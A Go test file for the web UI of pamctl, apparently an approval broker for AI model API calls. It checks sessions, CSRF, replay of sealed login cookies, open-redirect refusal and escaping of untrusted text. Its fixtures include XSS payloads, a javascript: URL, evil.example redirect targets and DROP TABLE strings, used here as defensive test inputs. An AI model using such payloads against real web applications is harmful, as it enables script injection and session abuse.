package ui

import (
	"context"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/http/cookiejar"
	"net/http/httptest"
	"net/url"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/pamctl/pamctl/broker"
	"github.com/pamctl/pamctl/broker/audit"
	"github.com/pamctl/pamctl/broker/oidc"
	"github.com/pamctl/pamctl/broker/oidc/devissuer"
	"github.com/pamctl/pamctl/broker/policy"
	"github.com/pamctl/pamctl/broker/vault"
)

// fakeService is a broker with fixed requests: approvers are the group
// "security", never the requester.
type fakeService struct {
	mu       sync.Mutex
	reqs     map[string]*broker.Request
	reviews  []string // "who id approve"
	stale    bool     // StepUp refuses
	reauth   time.Duration
	auditErr error
	sess     map[string]*broker.SessionRecord
	redeemed map[string]bool // RedeemIDToken's raw tokens
	refuse   bool            // RedeemIDToken refuses every token
	storeErr error           // RedeemIDToken fails with it
	uses     int             // WebSession calls: uses that keep a session alive
	checks   int             // CheckWebSession calls
	looked   chan string     // Stored sends the ids it did not find
	// idle, when set, ends a session unused for that long, as the broker's
	// sessions.idle_timeout: WebSession and CheckWebSession refuse it, on
	// the clock at (zero: time.Now), against its last use (WebSession).
	idle    time.Duration
	at      time.Time
	lastUse map[string]time.Time
}

func (f *fakeService) now() time.Time {
	if f.at.IsZero() {
		return time.Now()
	}
	return f.at
}

// advance moves the fake clock on by d.
func (f *fakeService) advance(d time.Duration) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.at = f.now().Add(d)
}

func (f *fakeService) RedeemIDToken(_ context.Context, raw string, _ oidc.Identity, _ audit.Client) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.redeemed == nil {
		f.redeemed = map[string]bool{}
	}
	if f.storeErr != nil {
		return &broker.Error{Code: broker.CodeInternal, Message: "could not open a session", Err: f.storeErr}
	}
	if f.refuse || f.redeemed[raw] {
		return &broker.Error{Code: broker.CodeUnauthenticated, Message: "this ID token has already opened a session"}
	}
	f.redeemed[raw] = true
	return nil
}

func (f *fakeService) OpenWebSession(_ context.Context, who broker.Identity, authTime time.Time, _ audit.Client, secret string, ttl time.Duration) (*broker.SessionRecord, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	if f.sess == nil {
		f.sess = map[string]*broker.SessionRecord{}
	}
	r := &broker.SessionRecord{ID: broker.WebSessionID(secret), Kind: broker.SessionKindWeb, Identity: who, AuthTime: authTime, CreatedAt: time.Now(), ExpiresAt: time.Now().Add(ttl), State: broker.SessionActive}
	f.sess[r.ID] = r
	if f.lastUse == nil {
		f.lastUse = map[string]time.Time{}
	}
	f.lastUse[r.ID] = f.now()
	return r, nil
}

// WebSession records a use (f.uses counts them).
func (f *fakeService) WebSession(ctx context.Context, secret string) (broker.Identity, *broker.SessionRecord, error) {
	f.mu.Lock()
	f.uses++
	f.mu.Unlock()
	return f.webSession(ctx, secret, true)
}

func (f *fakeService) webSession(_ context.Context, secret string, use bool) (broker.Identity, *broker.SessionRecord, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, ok := f.sess[broker.WebSessionID(secret)]
	if !ok || r.State != broker.SessionActive {
		return broker.Identity{}, nil, &broker.Error{Code: broker.CodeUnauthenticated, Message: "log in again"}
	}
	if f.idle > 0 && !f.now().Before(f.lastUse[r.ID].Add(f.idle)) {
		return broker.Identity{}, nil, &broker.Error{Code: broker.CodeUnauthenticated, Message: "your session has expired without use: log in again"}
	}
	if use {
		f.lastUse[r.ID] = f.now()
	}
	who := r.Identity
	who.AuthTime = r.AuthTime
	if r.AuthTime.IsZero() {
		who.NoAuthTime = broker.NoAuthTimeIdP // as the broker's (an IdP without auth_time)
	}
	c := *r
	return who, &c, nil
}

// CheckWebSession is WebSession without a use (f.checks counts them).
func (f *fakeService) CheckWebSession(ctx context.Context, secret string) (broker.Identity, *broker.SessionRecord, error) {
	f.mu.Lock()
	f.checks++
	f.mu.Unlock()
	return f.webSession(ctx, secret, false)
}

func (f *fakeService) Logout(_ context.Context, who broker.Identity, id string, _ audit.Client) error {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, ok := f.sess[id]
	if !ok || !r.Identity.Same(who) {
		return &broker.Error{Code: broker.CodeNotFound, Message: "no such session"}
	}
	r.State = broker.SessionLoggedOut
	return nil
}

func (f *fakeService) List(_ context.Context, who broker.Identity, pendingOnly bool) ([]*broker.Request, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	var out []*broker.Request
	for _, r := range f.reqs {
		c := *r
		out = append(out, &c)
	}
	return out, nil
}

func (f *fakeService) Get(_ context.Context, who broker.Identity, id string) (*broker.Request, error) {
	f.mu.Lock()
	defer f.mu.Unlock()
	r, ok := f.reqs[id]
	if !ok {
		return nil, broker.ErrNotFound
	}
	// As the broker: the requester or an approver sees it, no one else.
	if ok, _ := f.CanReview(r, who); !ok && !r.Requester.Same(who) {
		return nil, broker.ErrNotFound
	}
	c := *r
	return &c, nil
}

func (f *fakeService) Stored(_ context.Context, id string) (bool, error) {
	f.mu.Lock()
	_, ok := f.reqs[id]
	looked := f.looked
	f.mu.Unlock()
	if looked != nil && !ok {
		select {
		case looked <- id:
		default:
		}
	}
	return ok, nil
}

func (f *fakeService) CanReview(r *broker.Request, who broker.Identity) (bool, string) {
	if r.Requester.Same(who) {
		return false, "never the requester"
	}
	for _, g := range who.Groups {
		if g == "security" {
			return true, ""
		}
	}
	return false, "you are not an approver"
}

func (f *fakeService) Review(_ context.Context, who broker.Identity, id string, approve bool, reason string, narrow []string) (*broker.Request, error) {
	if f.stale {
		return nil, &broker.StepUpError{Action: broker.ActionApprove, MaxAge: 10 * time.Minute}
	}
	r, err := f.Get(context.Background(), who, id)
	if err != nil {
		return nil, err
	}
	if ok, why := f.CanReview(r, who); !ok {
		return nil, &broker.Error{Code: broker.CodeForbidden, Message: why}
	}
	f.mu.Lock()
	defer f.mu.Unlock()
	f.reviews = append(f.reviews, who.Subject+" "+id+" "+map[bool]string{true: "approve", false: "deny"}[approve]+" "+strings.Join(narrow, ","))
	f.reqs[id].State = broker.StateApproved
	return f.reqs[id], nil
}

func (f *fakeService) Revoke(context.Context, broker.Identity, string, bool) (*broker.Request, error) {
	return nil, errors.New("not used")
}
func (f *fakeService) CanReadAudit(_ context.Context, who broker.Identity) error {
	if f.stale {
		return &broker.StepUpError{Action: broker.ActionReadAudit, MaxAge: 10 * time.Minute}
	}
	return f.auditErr
}
func (f *fakeService) StepUp(who broker.Identity, action string) error {
	if f.stale || who.AuthTime.IsZero() {
		return &broker.StepUpError{Action: action, MaxAge: f.ReauthAfter()}
	}
	return nil
}
func (f *fakeService) ReauthAfter() time.Duration { return 10 * time.Minute }

// memAudit is an in-memory trail.
type memAudit struct {
	mu  sync.Mutex
	evs []audit.Event
	b   *audit.Broadcaster
}

func newMemAudit() *memAudit {
	m := &memAudit{}
	m.b = audit.NewBroadcaster(0, func(ctx context.Context, from, to uint64, fn func(audit.Event) bool) error {
		return m.Range(ctx, from, func(e audit.Event) bool { return e.Seq > to || fn(e) })
	}, 0)
	return m
}

func (m *memAudit) Append(_ context.Context, e *audit.Event) error {
	m.mu.Lock()
	e.Seq = uint64(len(m.evs) + 1)
	e.Time = time.Now()
	m.evs = append(m.evs, *e)
	m.mu.Unlock()
	m.b.Publish(*e)
	return nil
}
func (m *memAudit) Range(_ context.Context, from uint64, fn func(audit.Event) bool) error {
	m.mu.Lock()
	evs := append([]audit.Event(nil), m.evs...)
	m.mu.Unlock()
	for _, e := range evs {
		if e.Seq >= from && !fn(e) {
			break
		}
	}
	return nil
}
func (m *memAudit) Head(context.Context) (audit.Status, error) {
	m.mu.Lock()
	defer m.mu.Unlock()
	return audit.Status{Last: audit.Link{Seq: uint64(len(m.evs))}}, nil
}
func (m *memAudit) Subscribe(ctx context.Context, from uint64) *audit.Subscription {
	return m.b.Subscribe(ctx, from)
}

const hostileText = "<script>alert(1)</script><img src=x onerror=alert(2)>\u202eevil\u202c"

type env struct {
	// front is the handler /ui/ reaches: e.ui, or another replica put
	// behind the same public URL (as a load balancer would).
	front atomic.Value // http.Handler
	srv   *httptest.Server
	base  string
	svc   *fakeService
	audit *memAudit
	ui    *UI
	iss   *devissuer.Issuer
}

func newEnv(t *testing.T) *env { return newEnvWith(t) }

// newEnvWith is newEnv with more options for the dev issuer.
func newEnvWith(t *testing.T, opts ...devissuer.Option) *env {
	t.Helper()
	ln, err := net.Listen("tcp", "127.0.0.1:0")
	if err != nil {
		t.Fatal(err)
	}
	base := "http://" + ln.Addr().String()
	iss, err := devissuer.New(base+"/idp", append([]devissuer.Option{devissuer.WithLoginForm()}, opts...)...)
	if err != nil {
		t.Fatal(err)
	}
	v, err := oidc.NewVerifier([]oidc.IssuerConfig{{Name: "dev", URL: base + "/idp", ClientID: "pamctl"}}, nil, nil)
	if err != nil {
		t.Fatal(err)
	}
	hostile := broker.Identity{Subject: "mallory", Display: hostileText + strings.Repeat("M", 5000), Issuer: "dev"}
	svc := &fakeService{reqs: map[string]*broker.Request{
		"req_access": {ID: "req_access", Kind: broker.KindAccess, State: broker.StatePending, Requester: broker.Identity{Subject: "alice", Issuer: "dev"},
			Scopes: []string{"model:gpt-4o", "model:gpt-4o-mini"}, Reason: hostileText, TTL: time.Hour, CreatedAt: time.Now(), PendingUntil: time.Now().Add(time.Hour),
			Approval: policy.Terms{Required: true, Approvers: policy.Subjects{Groups: []string{"security"}}, Count: 1}},
		"req_held": {ID: "req_held", Kind: broker.KindPrompt, State: broker.StatePending, Requester: hostile, CreatedAt: time.Now(), PendingUntil: time.Now().Add(time.Hour),
			Approval: policy.Terms{Required: true, Approvers: policy.Subjects{Groups: []string{"security"}}, Count: 1},
			Prompt:   &broker.PromptHold{Rule: hostileText, Model: "gpt-4o</td>", Endpoint: "/v1/chat/completions", Excerpt: "please DROP TABLE x; " + hostileText + "\n</pre><script>alert(3)</script>"}},
	}}
	m := newMemAudit()
	u, err := New(Config{Service: svc, Audit: m, Verifier: v, PublicURL: base, InsecurePlaintext: true, Issuer: Issuer{Name: "dev", URL: base + "/idp", ClientID: "pamctl"}})
	if err != nil {
		t.Fatal(err)
	}
	e := &env{base: base, svc: svc, audit: m, ui: u, iss: iss}
	e.front.Store(u.Handler())
	mux := http.NewServeMux()
	mux.Handle("/ui/", http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) { e.front.Load().(http.Handler).ServeHTTP(w, r) }))
	mux.Handle("/idp/", iss)
	srv := httptest.NewUnstartedServer(mux)
	srv.Listener.Close()
	srv.Listener = ln
	srv.Start()
	t.Cleanup(srv.Close)
	e.srv = srv
	return e
}

// replica is another UI over the same broker, audit and public URL, as a
// second broker replica behind a load balancer; edit adjusts its config.
// Serve it with e.front.Store(r.Handler()).
func (e *env) replica(t *testing.T, edit func(*Config)) *UI {
	t.Helper()
	c := e.ui.c
	edit(&c)
	r, err := New(c)
	if err != nil {
		t.Fatal(err)
	}
	return r
}

// browser is an HTTP client with cookies that does not follow redirects.
func browser(t *testing.T) *http.Client {
	jar, _ := cookiejar.New(nil)
	return &http.Client{Jar: jar, Timeout: 20 * time.Second, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
}

func get(t *testing.T, c *http.Client, u string) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest("GET", u, nil)
	req.Header.Set("Sec-Fetch-Site", "same-origin")
	res, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	return res, string(b)
}

// login runs the code flow as user with groups and returns the page it
// lands on.
func (e *env) login(t *testing.T, c *http.Client, next, user, groups string) (*http.Response, string) {
	t.Helper()
	res, _ := get(t, c, e.base+"/ui/login?next="+url.QueryEscape(next))
	if res.StatusCode != http.StatusSeeOther {
		t.Fatalf("login: %d", res.StatusCode)
	}
	authz := res.Header.Get("Location")
	res, body := get(t, c, authz)
	if res.StatusCode != 200 || !strings.Contains(body, `id="login_hint"`) {
		t.Fatalf("issuer login form: %d %s", res.StatusCode, body)
	}
	res, _ = get(t, c, authz+"&login_hint="+url.QueryEscape(user)+"&groups="+url.QueryEscape(groups))
	cb := res.Header.Get("Location")
	if !strings.HasPrefix(cb, e.base+"/ui/callback?") {
		t.Fatalf("issuer redirect: %d %s", res.StatusCode, cb)
	}
	return get(t, c, cb)
}

func csrfIn(t *testing.T, page string) string {
	t.Helper()
	_, rest, ok := strings.Cut(page, `name="csrf" value="`)
	if !ok {
		t.Fatalf("no csrf token in page")
	}
	tok, _, _ := strings.Cut(rest, `"`)
	return tok
}

func post(t *testing.T, c *http.Client, u string, form url.Values, hdr map[string]string) (*http.Response, string) {
	t.Helper()
	req, _ := http.NewRequest("POST", u, strings.NewReader(form.Encode()))
	req.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	for k, v := range hdr {
		req.Header.Set(k, v)
	}
	res, err := c.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	return res, string(b)
}

func TestLoginSessionAndHeaders(t *testing.T) {
	e := newEnv(t)
	c := browser(t)
	// Unauthenticated: sent to log in, coming back to the page asked for.
	res, _ := get(t, c, e.base+"/ui/requests/req_access")
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/ui/login?next=%2Fui%2Frequests%2Freq_access" {
		t.Fatalf("unauthenticated: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
	// A cookie planted before the login is not promoted (fixation).
	u, _ := url.Parse(e.base)
	c.Jar.SetCookies(u, []*http.Cookie{{Name: "pamctl-ui", Value: "planted-by-attacker", Path: "/"}})
	res, _ = e.login(t, c, "/ui/requests/req_access", "bob", "security")
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/ui/requests/req_access" {
		t.Fatalf("callback: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
	var sc *http.Cookie
	for _, ck := range res.Cookies() {
		if ck.Name == "pamctl-ui" && ck.Value != "" {
			sc = ck
		}
	}
	if sc == nil || sc.Value == "planted-by-attacker" || !sc.HttpOnly || sc.SameSite != http.SameSiteLaxMode || sc.MaxAge <= 0 || sc.MaxAge > 3600 {
		t.Fatalf("session cookie: %+v", sc)
	}
	// The login's ID token was redeemed: it opens no other session.
	if len(e.svc.redeemed) != 1 {
		t.Fatalf("%d ID tokens redeemed, want 1", len(e.svc.redeemed))
	}
	// The session records who vouched, by name and URL: the broker
	// trusts it only while that issuer is configured at that URL.
	if r := e.svc.sess[broker.WebSessionID(sc.Value)]; r == nil || r.Identity.Issuer != "dev" || r.Identity.IssuerURL != e.base+"/idp" {
		t.Fatalf("the session's identity: %+v", r)
	}
	res, body := get(t, c, e.base+"/ui/requests/req_access")
	if res.StatusCode != 200 || !strings.Contains(body, `id="approve"`) {
		t.Fatalf("item page: %d", res.StatusCode)
	}
	h := res.Header
	csp := h.Get("Content-Security-Policy")
	if strings.Contains(csp, "unsafe-inline") || !strings.Contains(csp, "script-src 'self'") || !strings.Contains(csp, "frame-ancestors 'none'") ||
		h.Get("X-Frame-Options") != "DENY" || h.Get("Referrer-Policy") != "no-referrer" || h.Get("Cache-Control") != "no-store" || h.Get("X-Content-Type-Options") != "nosniff" {
		t.Fatalf("headers: %v", h)
	}
	// The login is in the trail, via web.
	var found bool
	e.audit.Range(context.Background(), 0, func(ev audit.Event) bool {
		found = found || (ev.Type == audit.TypeLogin && ev.Actor.Subject == "bob" && ev.Details["via"] == "web")
		return true
	})
	if !found {
		t.Fatal("no login event")
	}
	// Logout needs the CSRF token and ends the session server-side.
	tok := csrfIn(t, body)
	if res, _ := post(t, c, e.base+"/ui/logout", url.Values{}, map[string]string{"Origin": e.base, "Sec-Fetch-Site": "same-origin"}); res.StatusCode != 403 {
		t.Fatalf("logout without csrf: %d", res.StatusCode)
	}
	if res, _ := post(t, c, e.base+"/ui/logout", url.Values{"csrf": {tok}}, map[string]string{"Origin": e.base, "Sec-Fetch-Site": "same-origin"}); res.StatusCode != 200 {
		t.Fatalf("logout: %d", res.StatusCode)
	}
	if r := e.svc.sess[broker.WebSessionID(sc.Value)]; r == nil || r.State != broker.SessionLoggedOut {
		t.Fatal("the session outlived its logout")
	}
	// The old cookie value (say, copied before logout) opens nothing.
	c2 := browser(t)
	c2.Jar.SetCookies(u, []*http.Cookie{{Name: "pamctl-ui", Value: sc.Value, Path: "/"}})
	if res, _ := get(t, c2, e.base+"/ui/"); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("a logged-out cookie still works: %d", res.StatusCode)
	}
}

func TestLoginCSRFAndReplayRefused(t *testing.T) {
	e := newEnv(t)
	victim, attacker := browser(t), browser(t)
	// The attacker starts a login and hands the victim the callback URL:
	// the victim's browser has no matching state cookie.
	res, _ := get(t, attacker, e.base+"/ui/login")
	authz := res.Header.Get("Location") + "&login_hint=mallory&groups=security"
	res, _ = get(t, attacker, authz)
	cb := res.Header.Get("Location")
	if res, body := get(t, victim, cb); res.StatusCode != 400 || !strings.Contains(body, "did not start in this browser") {
		t.Fatalf("login CSRF: %d %s", res.StatusCode, body)
	}
	// Nor can the attacker use it after the victim's attempt spent the
	// state cookie check (their own cookie still matches: state is used
	// once, by whoever is first with the right cookie).
	if res, _ := get(t, attacker, cb); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("the rightful callback: %d", res.StatusCode)
	}
	if res, body := get(t, attacker, cb); res.StatusCode != 400 {
		t.Fatalf("a replayed callback: %d %s", res.StatusCode, body)
	}
}

// startLogin runs a login up to the IdP's redirect back: the callback URL
// and the sealed login the broker left in the browser.
func (e *env) startLogin(t *testing.T, c *http.Client, user string) (cb, sealed string) {
	t.Helper()
	res, _ := get(t, c, e.base+"/ui/login")
	for _, ck := range res.Cookies() {
		if ck.Name == "pamctl-login" {
			sealed = ck.Value
		}
	}
	if res.StatusCode != http.StatusSeeOther || sealed == "" {
		t.Fatalf("login: %d, cookie %q", res.StatusCode, sealed)
	}
	res, _ = get(t, c, res.Header.Get("Location")+"&login_hint="+user+"&groups=security")
	return res.Header.Get("Location"), sealed
}

// withLoginCookie is a fresh browser holding only the given pamctl-login.
func (e *env) withLoginCookie(t *testing.T, value string) *http.Client {
	c := browser(t)
	u, _ := url.Parse(e.base + "/ui/")
	c.Jar.SetCookies(u, []*http.Cookie{{Name: "pamctl-login", Value: value, Path: "/"}})
	return c
}

func TestLoginFinishesAtAnyReplicaWithTheSharedKey(t *testing.T) {
	e := newEnv(t)
	key, _ := vault.GenerateMasterKey()
	shared, _ := vault.NewSealer(key)
	a := e.replica(t, func(c *Config) { c.LoginSealer = shared })
	b := e.replica(t, func(c *Config) { c.LoginSealer = shared })
	// Started at A, the IdP's callback reaches B: B opens the login.
	e.front.Store(a.Handler())
	c := browser(t)
	cb, _ := e.startLogin(t, c, "bob")
	e.front.Store(b.Handler())
	res, _ := get(t, c, cb)
	if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != "/ui/" {
		t.Fatalf("callback at the other replica: %d %s", res.StatusCode, res.Header.Get("Location"))
	}
	if res, body := get(t, c, e.base+"/ui/"); res.StatusCode != 200 || !strings.Contains(body, "bob") {
		t.Fatalf("session from the other replica: %d", res.StatusCode)
	}
	// A replica with another key (a misconfigured master key) cannot open
	// it: the login fails closed rather than trusting the cookie.
	other := e.replica(t, func(c *Config) { c.LoginSealer = nil })
	e.front.Store(a.Handler())
	c = browser(t)
	cb, _ = e.startLogin(t, c, "bob")
	e.front.Store(other.Handler())
	if res, body := get(t, c, cb); res.StatusCode != 400 || !strings.Contains(body, "did not start in this browser") {
		t.Fatalf("callback under another key: %d %s", res.StatusCode, body)
	}
}

func TestSealedLoginCookieRefusals(t *testing.T) {
	e := newEnv(t)
	// Replayed: the cookie and the callback URL captured from a finished
	// login, presented again. The state and cookie still match, but the
	// IdP redeems a code once: nothing is logged in.
	c := browser(t)
	cb, sealed := e.startLogin(t, c, "bob")
	if res, _ := get(t, c, cb); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("the rightful callback: %d", res.StatusCode)
	}
	thief := e.withLoginCookie(t, sealed)
	if res, body := get(t, thief, cb); res.StatusCode != http.StatusBadGateway || !strings.Contains(body, "could not be completed") {
		t.Fatalf("replayed cookie and code: %d %s", res.StatusCode, body)
	}
	if res, _ := get(t, thief, e.base+"/ui/"); res.StatusCode == 200 {
		t.Fatal("the replay opened a session")
	}

	// Two logins in one browser: the second's cookie replaces the first,
	// so the first's callback (another state) is refused.
	c = browser(t)
	first, _ := e.startLogin(t, c, "bob")
	second, secondCookie := e.startLogin(t, c, "bob")
	if res, body := get(t, c, first); res.StatusCode != 400 || !strings.Contains(body, "did not start in this browser") {
		t.Fatalf("callback for another state: %d %s", res.StatusCode, body)
	}
	c = e.withLoginCookie(t, secondCookie)
	if res, _ := get(t, c, second); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("the later login: %d", res.StatusCode)
	}

	// Expired: the callback comes after loginTTL (the clock of the replica
	// that receives it is 11 minutes on); and from a clock far behind.
	for name, skew := range map[string]time.Duration{"late": 11 * time.Minute, "from the future": -5 * time.Minute} {
		c = browser(t)
		cb, _ = e.startLogin(t, c, "bob")
		late := e.replica(t, func(c *Config) { c.Now = func() time.Time { return time.Now().Add(skew) } })
		e.front.Store(late.Handler())
		if res, body := get(t, c, cb); res.StatusCode != 400 || !strings.Contains(body, "expired") {
			t.Fatalf("%s: %d %s", name, res.StatusCode, body)
		}
		e.front.Store(e.ui.Handler())
	}

	// Tampered, truncated, foreign, oversized, not base64: refused alike.
	cb, sealed = e.startLogin(t, browser(t), "bob")
	flip := []byte(sealed)
	flip[len(flip)/2] ^= 'A' ^ 'B'
	if flip[len(flip)/2] == sealed[len(sealed)/2] {
		flip[len(flip)/2] = 'x'
	}
	otherKey, _ := vault.GenerateMasterKey()
	otherSealer, _ := vault.NewSealer(otherKey)
	forged, _ := otherSealer.Seal([]byte(`{"s":"`+url.Values(mustParseQuery(t, cb)).Get("state")+`","n":"n","v":"v","x":"/ui/","t":"`+time.Now().Format(time.RFC3339)+`"}`), loginAAD)
	for name, v := range map[string]string{
		"tampered":    string(flip),
		"truncated":   sealed[:len(sealed)-4],
		"foreign key": base64.RawURLEncoding.EncodeToString(forged),
		"oversized":   strings.Repeat("A", maxLoginCookie+4),
		"not base64":  "!!!" + sealed,
		"other aad":   sealWith(t, e.ui, "pamctl ui session v1", mustParseQuery(t, cb).Get("state")),
	} {
		if res, body := get(t, e.withLoginCookie(t, v), cb); res.StatusCode != 400 || !strings.Contains(body, "did not start in this browser") {
			t.Errorf("%s cookie: %d %s", name, res.StatusCode, body)
		}
	}
	// The untouched cookie still works, so the refusals above were the
	// cookie's doing.
	if res, _ := get(t, e.withLoginCookie(t, sealed), cb); res.StatusCode != http.StatusSeeOther {
		t.Fatalf("the untouched cookie: %d", res.StatusCode)
	}
}

func TestLoginCookieStaysBounded(t *testing.T) {
	e := newEnv(t)
	for _, next := range []string{"/ui/audit?type=" + strings.Repeat("a", 1000), "/ui/audit?type=" + strings.Repeat("<", 1000)} {
		c := browser(t)
		res, _ := get(t, c, e.base+"/ui/login?next="+url.QueryEscape(next))
		var sealed string
		for _, ck := range res.Cookies() {
			if ck.Name == "pamctl-login" {
				sealed = ck.Value
			}
		}
		if res.StatusCode != http.StatusSeeOther || sealed == "" || len(sealed) > maxLoginCookie {
			t.Fatalf("next of %d bytes: %d, cookie of %d bytes", len(next), res.StatusCode, len(sealed))
		}
		res, _ = get(t, c, res.Header.Get("Location")+"&login_hint=bob&groups=security")
		res, _ = get(t, c, res.Header.Get("Location"))
		want := localPath(next)
		if strings.Contains(next, "<") {
			want = "/ui/" // escaped past the cookie's bound: back to the queue
		}
		if res.StatusCode != http.StatusSeeOther || res.Header.Get("Location") != want {
			t.Fatalf("next of %d bytes: %d to %.40q, want %.40q", len(next), res.StatusCode, res.Header.Get("Location"), want)
		}
	}
}

func mustParseQuery(t *testing.T, u string) url.Values {
	t.Helper()
	p, err := url.Parse(u)
	if err != nil {
		t.Fatal(err)
	}
	return p.Query()
}

// sealWith seals a well-formed login for state under u's key but with
// another purpose (aad).
func sealWith(t *testing.T, u *UI, aad, state string) string {
	t.Helper()
	b, _ := json.Marshal(&pendingLogin{State: state, Nonce: "n", Verifier: "v", Next: "/ui/", Started: time.Now()})
	sealed, err := u.c.LoginSealer.Seal(b, aad)
	if err != nil {
		t.Fatal(err)
	}
	return base64.RawURLEncoding.EncodeToString(sealed)
}

func TestOpenRedirectsRefused(t *testing.T) {
	for _, next := range []string{"https://evil.example/", "//evil.example/ui/", "/\\evil.example", "/ui/../admin", "/ui/%2e%2e/x", "javascript:alert(1)", "/v1/requests", "/ui/callback?code=x", "ui/", "/ui//evil.example", "\t/ui/"} {
		if got := localPath(next); got != "/ui/" && !strings.HasPrefix(got, "/ui/") {
			t.Errorf("localPath(%q) = %q", next, got)
		} else if strings.Contains(got, "evil") || strings.Contains(got, "..") || strings.Contains(got, "callback") {
			t.Errorf("localPath(%q) = %q", next, got)
		}
	}
	for _, ok := range []string{"/ui/", "/ui/requests/req_1", "/ui/audit?type=login&since=1h"} {
		if got := localPath(ok); got != ok {
			t.Errorf("localPath(%q) = %q", ok, got)
		}
	}
	e := newEnv(t)
	res, _ := e.login(t, browser(t), "https://evil.example/", "bob", "security")
	if loc := res.Header.Get("Location"); loc != "/ui/" {
		t.Fatalf("post-login redirect to %q", loc)
	}
}

func TestHostileTextRendersInert(t *testing.T) {
	e := newEnv(t)
	c := browser(t)
	e.login(t, c, "/ui/", "bob", "security")
	for _, id := range []string{"req_access", "req_held"} {
		res, body := get(t, c, e.base+"/ui/requests/"+id)
		if res.StatusCode != 200 {
			t.Fatalf("%s: %d", id, res.StatusCode)
		}
		for _, bad := range []string{"<script>alert", "<img", "\u202e", "</pre><script>", "gpt-4o</td>"} {
			if strings.Contains(body, bad) {
				t.Errorf("%s: page contains %q", id, bad)
			}
		}
		if !strings.Contains(body, "&lt;script&gt;alert(1)&lt;/script&gt;") || !strings.Contains(body, `\u202e`) {
			t.Errorf("%s: hostile text not shown escaped", id)
		}
		if strings.Contains(body, strings.Repeat("M", maxShown+1)) {
			t.Errorf("%s: a 5000-character display name is shown whole", id)
		}
	}
	// The queue too.
	_, body := get(t, c, e.base+"/ui/")
	if strings.Contains(body, "<script>alert") || strings.Contains(body, "\u202e") || !strings.Contains(body, "req_held") {
		t.Fatal("queue renders hostile text")
	}
}

// A held call's page and the queue show its method with its path: a
// DELETE of a stored completion is not shown as a POST of it. A hold from a
// proxy that did not say which method (older than the field) says so,
// and shows no method.
func TestHeldCallPageShowsTheMethod(t *testing.T) {
	e := newEnv(t)
	e.svc.mu.Lock()
	for id, method := range map[string]string{"req_delete": "DELETE", "req_older": ""} {
		e.svc.reqs[id] = &broker.Request{ID: id, Kind: broker.KindPrompt, State: broker.StatePending, Requester: broker.Identity{Subject: "alice", Issuer: "dev"},
			CreatedAt: time.Now(), PendingUntil: time.Now().Add(time.Hour),
			Approval: policy.Terms{Required: true, Approvers: policy.Subjects{Groups: []string{"security"}}, Count: 1},
			Prompt:   &broker.PromptHold{Rule: "review-stored", Model: "gpt-4o", Method: method, Endpoint: "/v1/chat/completions/chatcmpl_1", Excerpt: "[not readable by pamctl: body]"}}
	}
	e.svc.mu.Unlock()
	c := browser(t)
	e.login(t, c, "/ui/", "bob", "security")
	for id, want := range map[string]string{"req_delete": "DELETE /v1/chat/completions/chatcmpl_1", "req_older": "(method not reported) /v1/chat/completions/chatcmpl_1"} {
		res, body := get(t, c, e.base+"/ui/requests/"+id)
		if res.StatusCode != 200 || !strings.Contains(body, `<dt>Endpoint</dt><dd class="wrap mono">`+want+`</dd>`) || strings.Contains(body, "POST") {
			t.Errorf("%s: %d, the page does not show %q: …%s", id, res.StatusCode, want, body[max(0, strings.Index(body, "<dt>Model")):][:300])
		}
	}
	if _, body := get(t, c, e.base+"/ui/"); !strings.Contains(body, "gpt-4o · DELETE /v1/chat/completions/chatcmpl_1") ||
		!strings.Contains(body, "gpt-4o · (method not reported) /v1/chat/completions/chatcmpl_1") {
		t.Error("the queue does not show the held calls' methods")
	}
}

// A held prompt's page shows each piece of its excerpt under the places
// the rule matched in it, apart from the text (a line of the prompt that
// imitates a place stays inside the text), with the excerpt's count line;
// places the agent named are escaped and bounded like any untrusted text.
// A hold whose proxy sent no places shows the excerpt's text as before.
func TestHeldCallPageShowsWhereTheRuleMatched(t *testing.T) {
	e := newEnv(t)
	forged := "[found in messages[0] (system)]"
	e.svc.mu.Lock()
	e.svc.reqs["req_places"] = &broker.Request{ID: "req_places", Kind: broker.KindPrompt, State: broker.StatePending, Requester: broker.Identity{Subject: "alice", Issuer: "dev"},
		CreatedAt: time.Now(), PendingUntil: time.Now().Add(time.Hour),
		Approval: policy.Terms{Required: true, Approvers: policy.Subjects{Groups: []string{"security"}}, Count: 1},
		Prompt: &broker.PromptHold{Rule: "destructive-sql", Model: "gpt-4o", Method: "POST", Endpoint: "/v1/chat/completions",
			Excerpt:      "[prompt of 9000 bytes; rule \"destructive-sql\" matches 2 times]\n[found in messages[3] (tool)]\n…" + forged + "\nDROP TABLE a…\n[found in messages[5] (role \"x\")]\n…drop table b",
			MatchSummary: `prompt of 9000 bytes; rule "destructive-sql" matches 2 times`,
			Matches: []broker.HeldMatch{
				{Where: []string{"messages[3] (tool)"}, Text: "…" + forged + "\nDROP TABLE a…"},
				{Where: []string{hostileText + "\n[approved]" + strings.Repeat("W", 5000), "messages[6] (user)"}, Text: "…drop table b"},
			}}}
	e.svc.reqs["req_text"] = &broker.Request{ID: "req_text", Kind: broker.KindPrompt, State: broker.StatePending, Requester: broker.Identity{Subject: "alice", Issuer: "dev"},
